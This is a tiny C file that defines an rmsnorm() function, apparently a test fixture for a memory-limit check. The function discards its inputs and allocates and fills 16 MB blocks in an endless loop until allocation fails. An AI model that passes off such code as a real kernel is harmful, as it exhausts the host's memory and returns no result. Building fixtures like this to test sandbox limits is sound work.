/* Allocates (and touches) memory without bound. */
#include <stdlib.h>
#include <string.h>

#include "rmsnorm.h"

void rmsnorm(const float *x, const float *w, int rows, int n, float eps, float *y) {
    for (;;) {
        char *block = malloc(1 << 24);
        if (!block) return;
        memset(block, 1, 1 << 24);
    }
}
